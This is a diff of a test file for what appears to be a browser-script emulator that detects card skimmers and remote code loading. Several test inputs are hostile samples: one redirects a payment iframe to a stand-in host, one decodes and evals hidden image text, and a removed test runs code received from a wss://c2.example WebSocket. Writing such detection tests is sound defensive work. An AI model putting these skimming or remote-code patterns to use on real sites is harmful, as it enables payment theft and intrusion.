@@ -1,18 +1,6 @@
 import assert from 'node:assert/strict';
-import { eventsOf, flowsOf, requestsOf, run } from './sandbox-of-tests.ts';
+import { eventsOf, flowsOf, requestsOf, run, seen } from './sandbox-of-tests.ts';
 import { summarise } from '../../../analyzer/emulator/index.ts';
-
-/** Reports what a script saw as the path of a request. */
-async function seen(expression: string): Promise<string> {
-  const trace = await run(
-    `var answer = (function () { return ${expression} })(); fetch('https://seen.example/' + answer);`,
-  );
-  return decodeURIComponent(
-    requestsOf(trace)
-      .find(({ host }) => host === 'seen.example')
-      ?.url.slice(21) ?? '',
-  );
-}
 
 describe('emulator: the decoy world', () => {
   it('answers selectors of other shops with fitting fields', async () => {
@@ -104,37 +92,6 @@ describe('emulator: the decoy world', () => {
     );
   });
 
-  it('runs inline scripts, and those that document.write brings, as children', async () => {
-    const trace = await run(`
-      var s = document.createElement('script'); s.text = 'window.a = 1'; document.head.appendChild(s);
-      document.write('<script>window.b = 2<\\/script>'); eval('window.c = 3'); new Function('window.d = 4')();
-      setTimeout('window.e = 5', 1); fetch('https://c.example/' + [a, b, c, d].join(''));`);
-    assert.deepEqual(summarise(trace).dynamicCode, [
-      'Function',
-      'document-write',
-      'eval',
-      'inline-script',
-      'timer',
-    ]);
-    assert.equal(requestsOf(trace)[0]?.url, 'https://c.example/1234');
-  });
-
-  it('keeps direct eval direct, and function texts as they were', async () => {
-    assert.equal(
-      await seen(
-        "(function () { var local = 'in'; return eval('local') + (function f() { eval('1') }).toString() })()",
-      ),
-      "infunction f() { eval('1') }",
-    );
-  });
-
-  it('hides its marks on imports', async () => {
-    assert.equal(
-      await seen("(function f() { return import('./x') }).toString()"),
-      "function f() { return import('./x') }",
-    );
-  });
-
   it('shows the frame of a payment service to who looks for one', async () => {
     const trace = await run(
       "setInterval(function () { var f = document.querySelector('iframe[src*=hosted]'); if (f) f.src = 'https://c.example/' }, 100)",
@@ -198,13 +155,6 @@ describe('emulator: the decoy world', () => {
       const trace = await run(`eval(atob(document.querySelector('img').alt.${take}))`);
       assert.equal(summarise(trace).runsRemoteCode, true, take);
     }
-  });
-
-  it('marks code that came from a server', async () => {
-    const trace = await run(
-      "var w = new WebSocket('wss://c2.example/'); w.onmessage = function (e) { Function(e.data)() }",
-    );
-    assert.equal(summarise(trace).runsRemoteCode, true);
   });
 
   it('names replaced built-ins and shows what they catch', async () => {
